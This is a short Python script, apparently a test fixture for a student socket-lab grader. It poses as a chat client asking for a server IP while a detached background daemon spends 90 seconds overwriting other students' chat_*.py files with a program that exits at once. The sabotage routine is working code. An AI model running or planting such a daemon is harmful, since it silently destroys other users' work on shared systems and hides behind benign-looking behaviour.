# A client that leaves a daemon waiting for the next students' scratch copies (the next
# batch's, too) and replaces their files with a program that exits at once. Bounded: 90 s.
import glob
import os
import time

MINE = os.path.dirname(os.path.abspath(__file__))
SPOILED = 'raise SystemExit(0)\n'


def detach():
    """What a daemon does: its stdio to /dev/null, so nobody waits for its output."""
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        print('leftover %d waiting for other copies' % os.getpid(), flush=True)
        detach()
        deadline, spoiled = time.time() + 90, 0
        while time.time() < deadline and spoiled < 100:
            for path in glob.glob('/tmp/socket-lab-batch-*/*/chat_*.py'):
                if not path.startswith(MINE):
                    try:
                        with open(path, 'w') as victim:
                            victim.write(SPOILED)
                        spoiled += 1
                    except OSError:
                        pass
            time.sleep(0.01)
    os._exit(0)
print('请输入聊天服务器IP', flush=True)
input()
